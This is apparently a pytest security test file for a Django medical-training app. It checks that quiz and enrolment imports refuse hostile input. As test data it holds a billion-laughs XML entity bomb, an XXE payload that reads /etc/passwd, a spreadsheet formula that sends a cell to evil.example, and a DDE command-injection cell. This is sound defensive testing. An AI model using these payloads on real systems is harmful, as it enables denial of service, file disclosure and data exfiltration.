"""Hostile input on the curriculum pages: formulas in names, oversized and non-UTF-8 uploads, Moodle XML
with a DTD (billion laughs after a long comment), malformed badge verification requests."""

from __future__ import annotations

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from hypothesis import HealthCheck, given
from hypothesis import settings as hsettings
from hypothesis import strategies as st
from tests.security import as_uploaded, assert_csv_safe

from medtandem.apps.accounts.models import Institution, User
from medtandem.apps.curriculum import services
from medtandem.apps.curriculum.models import Enrolment, Question, Quiz
from medtandem.apps.curriculum.quizformats import QuizFormatError, parse_gift, parse_moodle_xml

from .curriculum_helpers import complete_programme

pytestmark = pytest.mark.django_db

BILLION_LAUGHS_AFTER_COMMENT = (
    '<?xml version="1.0" encoding="UTF-8"?>\n<!--' + "x" * 5000 + "-->\n"
    '<!DOCTYPE quiz [\n  <!ENTITY a "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa">\n'
    + "".join(
        f'  <!ENTITY {n} "{("&" + p + ";") * 10}">\n' for p, n in zip("abcd", "bcde", strict=True)
    )
    + ']>\n<quiz><question type="shortanswer"><name><text>Rire</text></name>'
    '<questiontext format="html"><text>&e;</text></questiontext>'
    '<answer fraction="100"><text>oui</text></answer></question></quiz>\n'
)


# --- Moodle XML: no DTD, no entities ------------------------------------------------------------


def test_a_dtd_after_a_long_comment_is_refused_with_a_clear_message() -> None:
    with pytest.raises(QuizFormatError, match="DOCTYPE refusée"):
        parse_moodle_xml(BILLION_LAUGHS_AFTER_COMMENT)
    with pytest.raises(QuizFormatError, match="DOCTYPE refusée"):
        parse_moodle_xml(BILLION_LAUGHS_AFTER_COMMENT.encode())


def test_an_external_entity_is_refused() -> None:
    xxe = (
        '<?xml version="1.0"?><!DOCTYPE quiz [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
        '<quiz><question type="shortanswer"><name><text>&x;</text></name></question></quiz>'
    )
    with pytest.raises(QuizFormatError, match="DOCTYPE"):
        parse_moodle_xml(xxe)


def test_the_billion_laughs_upload_stores_nothing(client: Client, instructor) -> None:  # type: ignore[no-untyped-def]
    quiz = Quiz.objects.create(title="Import", owner_institution=instructor.institution)
    client.force_login(instructor)
    upload = SimpleUploadedFile("rire.xml", BILLION_LAUGHS_AFTER_COMMENT.encode(), "text/xml")
    response = client.post(
        reverse("curriculum:quiz_import", args=[quiz.pk]), {"format": "moodle_xml", "file": upload}
    )
    assert response.status_code == 400
    assert "DOCTYPE refusée" in response.content.decode()
    assert not Question.objects.exists()


# --- upload limits ------------------------------------------------------------------------------


def test_an_oversized_quiz_file_is_refused_before_parsing(
    client: Client, instructor, settings
) -> None:  # type: ignore[no-untyped-def]
    settings.MEDTANDEM_UPLOAD_LIMITS = {"quiz": (10_000, None)}
    quiz = Quiz.objects.create(title="Import", owner_institution=instructor.institution)
    client.force_login(instructor)
    big = ("::Q::Question ?{TRUE}\n\n" * 2000).encode()
    response = client.post(
        reverse("curriculum:quiz_import", args=[quiz.pk]),
        {"format": "gift", "file": SimpleUploadedFile("q.gift", big)},
    )
    assert response.status_code == 200  # the form, with its error
    assert "trop volumineux" in response.content.decode()
    assert not Question.objects.exists()


def test_a_non_utf8_enrolment_csv_is_refused_with_a_message(
    client: Client, administrator, programme
) -> None:  # type: ignore[no-untyped-def]
    client.force_login(administrator)
    upload = SimpleUploadedFile(
        "i.csv", "username,last_name\nzoe,Lefèvre\n".encode("latin-1"), "text/csv"
    )
    response = client.post(
        reverse("curriculum:manage_enrolments", args=[programme.slug]), {"csv-file": upload}
    )
    assert response.status_code in (200, 400)
    assert "UTF-8" in response.content.decode()
    assert not User.objects.filter(username="zoe").exists()


def test_an_enrolment_csv_with_too_many_rows_is_refused(
    client: Client, administrator, programme, settings
) -> None:  # type: ignore[no-untyped-def]
    settings.MEDTANDEM_UPLOAD_LIMITS = {"enrolment": (5 * 1024 * 1024, 100)}
    client.force_login(administrator)
    content = "username\n" + "".join(f"learner-{i}\n" for i in range(150))
    upload = SimpleUploadedFile("i.csv", content.encode(), "text/csv")
    response = client.post(
        reverse("curriculum:manage_enrolments", args=[programme.slug]), {"csv-file": upload}
    )
    assert "100 lignes au plus" in response.content.decode()
    assert not User.objects.filter(username__startswith="learner-").exists()


# --- CSV exports never carry a formula ----------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Voir")'


def test_the_national_csv_command_neutralises_formulas(
    learner, programme, tmp_path, capsys
) -> None:  # type: ignore[no-untyped-def]
    from medtandem.cli import main

    learner.institution = Institution.objects.create(name=FORMULA, region="=cmd|' /C calc'!A0")
    learner.save()
    complete_programme(learner, programme)
    out = tmp_path / "national.csv"
    assert main(["report", "national", "--csv", "--output", str(out)]) == 0
    text = out.read_text()
    assert "'" + FORMULA in text.replace('""', '"')
    assert_csv_safe(text)


def test_the_cohort_csv_neutralises_formulas_imported_by_enrolment(
    client: Client,
    instructor,
    administrator,  # type: ignore[no-untyped-def]
    programme,
) -> None:
    services.enrol_from_csv(
        programme,
        f'username,last_name,first_name\nmallory,"{FORMULA.replace(chr(34), chr(34) * 2)}",@SUM(A1)\n',
        by=administrator,
    )
    client.force_login(administrator)
    response = client.get(reverse("curriculum:instructor"), {"format": "csv"})
    assert response.status_code == 200 and b"HYPERLINK" in response.content
    assert_csv_safe(response.content)


# --- badge verification: malformed requests are 400, never 500 ------------------------------------

BAD_BODIES = [
    ("application/json", b"{not json"),
    ("application/json", b"[1, 2]"),
    ("application/json", b"42"),
    ("application/json", b'{"token": 42}'),
    ("application/json", b'{"token": ["a"]}'),
    ("application/json", b"\xff\xfe"),
    ("text/plain", b"\xff\xfe"),
    ("application/json", b"1" * 5000),
    ("text/plain", b"a.b.c"),
    ("application/vc+jwt", b"x" * 30_000),
]


@pytest.mark.parametrize(("content_type", "body"), BAD_BODIES)
def test_check_request_answers_every_malformed_body(rf, content_type: str, body: bytes) -> None:  # type: ignore[no-untyped-def]
    from medtandem.apps.curriculum import badges

    request = rf.post("/learn/badges/verify", data=body, content_type=content_type)
    check = badges.check_request(request)
    assert check.valid is False and check.reason


@pytest.mark.parametrize(("content_type", "body"), BAD_BODIES[:3])
def test_the_badge_verify_endpoint_answers_400_to_malformed_json(
    content_type: str, body: bytes
) -> None:
    client = Client(raise_request_exception=False)
    response = client.post(reverse("curriculum:badge_verify"), data=body, content_type=content_type)
    assert response.status_code == 400
    assert response.json()["valid"] is False


# --- the parsers of outside input: success or their typed error -------------------------------------

_text = st.text(alphabet=st.characters(codec="utf-8", exclude_categories=("Cs",)), max_size=200)
_gift_pieces = st.lists(
    st.sampled_from(
        [
            "::",
            "{",
            "}",
            "=",
            "~",
            "#",
            "####",
            "%50%",
            "%-100%",
            "TRUE",
            "F",
            "->",
            "..",
            ":",
            "\\{",
            "\\:",
            "\n\n",
            "\n",
            " ",
            "3.14",
            "1..5",
            "//x\n",
            "$CATEGORY: a\n",
            "[html]",
            "Q",
            "a",
            "é",
            "%abc%",
            "=%",
        ]
    ),
    max_size=30,
).map("".join)


@hsettings(max_examples=60, deadline=None)
@given(source=st.one_of(_text, _gift_pieces))
def test_parse_gift_returns_questions_or_its_typed_error(source: str) -> None:
    try:
        questions = parse_gift(source)
    except QuizFormatError:
        return
    assert questions and all(q.text.strip() and q.answers for q in questions)


_xml_pieces = st.lists(
    st.sampled_from(
        [
            "<quiz>",
            "</quiz>",
            '<question type="multichoice">',
            '<question type="truefalse">',
            '<question type="numerical">',
            '<question type="essay">',
            '<question type="category">',
            "</question>",
            "<name><text>N</text></name>",
            '<questiontext format="html"><text>&lt;p&gt;T&lt;/p&gt;</text></questiontext>',
            '<answer fraction="100"><text>true</text></answer>',
            '<answer fraction="50"><text>2</text></answer>',
            '<answer fraction="x"><text>a</text></answer>',
            '<answer fraction="1e999"><text>a</text></answer>',
            "<tolerance>abc</tolerance>",
            "<defaultgrade>NaN</defaultgrade>",
            "<defaultgrade>1e999999</defaultgrade>",
            "<single>false</single>",
            "<!DOCTYPE quiz>",
            "<!-- c -->",
            "&amp;",
            "&",
            "<",
            "]]>",
            "<![CDATA[x]]>",
            '<?xml version="1.0" encoding="klingon"?>',
            '<?xml version="1.0"?>',
        ]
    ),
    max_size=25,
).map("".join)


@hsettings(max_examples=60, deadline=None)
@given(source=st.one_of(_xml_pieces, _text), as_bytes=st.booleans())
def test_parse_moodle_xml_returns_questions_or_its_typed_error(source: str, as_bytes: bool) -> None:
    try:
        questions = parse_moodle_xml(source.encode() if as_bytes else source)
    except QuizFormatError:
        return
    assert questions


@hsettings(
    max_examples=40,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(source=st.one_of(_gift_pieces, _xml_pieces), fmt=st.sampled_from(["gift", "moodle_xml"]))
def test_import_questions_is_all_or_nothing(source: str, fmt: str) -> None:
    quiz = Quiz.objects.create(title="Propriété")
    try:
        created = services.import_questions(quiz, source, fmt)
    except QuizFormatError:
        assert not quiz.questions.exists()
    else:
        assert quiz.questions.count() == len(created) > 0
    quiz.delete()


_csv_cell = st.one_of(
    st.sampled_from(
        [
            "",
            "zoe",
            "zoe ",
            "medicine",
            "astronaut",
            "student",
            "2",
            "x",
            "Inconnue",
            '"',
            "a,b",
            "=1+1",
            "é",
        ]
    ),
    _text.map(lambda t: t[:20]),
)
_headers = st.sampled_from(
    [
        "username",
        "username,profession",
        "username,practice_status,study_year",
        "username,first_name,last_name,email",
        "username,institution",
        "nom",
        "username,bogus",
        "username;profession",
        "",
    ]
)


@hsettings(
    max_examples=60,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(header=_headers, rows=st.lists(st.lists(_csv_cell, min_size=1, max_size=4), max_size=5))
def test_enrol_from_csv_enrols_everything_or_raises_its_typed_error(
    programme,
    administrator,
    header: str,  # type: ignore[no-untyped-def]
    rows: list[list[str]],
) -> None:
    sep = ";" if ";" in header else ","
    content = as_uploaded(header + "\n" + "\n".join(sep.join(r) for r in rows))
    known = set(User.objects.values_list("pk", flat=True))
    users, enrolments = len(known), Enrolment.objects.count()
    try:
        done = services.enrol_from_csv(programme, content, by=administrator)
    except services.CsvImportError:
        assert (User.objects.count(), Enrolment.objects.count()) == (users, enrolments)
    else:
        assert Enrolment.objects.count() == enrolments + len(done)
    Enrolment.objects.filter(programme=programme).delete()
    User.objects.exclude(pk__in=known).delete()


@pytest.mark.postgres
def test_enrol_from_csv_refuses_a_nul_byte_with_its_typed_error(programme, administrator) -> None:  # type: ignore[no-untyped-def]
    with pytest.raises(services.CsvImportError):
        services.enrol_from_csv(programme, "username\nzo\x00e\n", by=administrator)
